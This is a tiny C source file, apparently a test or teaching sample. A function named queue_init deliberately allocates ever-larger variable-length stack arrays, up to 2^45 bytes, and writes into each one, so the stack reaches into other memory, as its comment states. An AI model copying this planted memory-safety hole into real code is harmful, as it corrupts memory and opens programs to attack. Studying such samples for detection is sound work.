/* A local array so long that it reaches from its stack into the memory of others. */
#include "request_queue.h"

static void far(long bytes)
{
    volatile char array[bytes];
    array[0] = 1;
}

void queue_init(struct request_queue *queue)
{
    queue->length = 0;
    for (long bytes = 1; bytes > 0 && bytes < 1L << 45; bytes *= 2)
        far(bytes);
}
